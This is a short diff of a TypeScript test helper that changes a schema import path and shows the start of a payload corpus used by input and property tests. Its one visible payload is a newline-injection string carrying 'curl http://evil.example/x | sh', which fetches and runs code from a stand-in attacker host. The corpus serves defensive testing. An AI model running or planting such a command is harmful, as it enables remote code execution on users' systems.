@@ -2,7 +2,7 @@
  * The payload corpus and the schema walk shared by test/input.test.ts and test/properties.test.ts.
  */
 import { z } from 'zod';
-import { siteSchema } from '../config/schema';
+import { siteSchema } from '../charts/site-schema';
 
 export const PAYLOADS: readonly string[] = [
   'x\n; curl http://evil.example/x | sh',
